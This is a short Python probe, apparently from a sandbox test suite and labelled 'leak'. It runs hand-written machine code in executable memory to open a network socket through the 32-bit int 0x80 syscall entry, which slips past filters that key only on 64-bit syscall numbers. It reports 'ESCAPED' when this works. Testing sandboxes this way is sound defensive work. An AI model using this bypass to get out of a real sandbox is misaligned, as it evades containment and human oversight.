# class: leak
# Opens a socket by the 32-bit entry to the kernel, where calls have other numbers.
import ctypes,mmap,platform
if platform.machine()=="x86_64":
    m=mmap.mmap(-1,4096,prot=7); m.write(bytes.fromhex("53 b867010000 bb02000000 b901000000 31d2 cd80 5b c3"))
    r=ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))(); print("ESCAPED %d"%r if r>=0 else "no %d"%r)
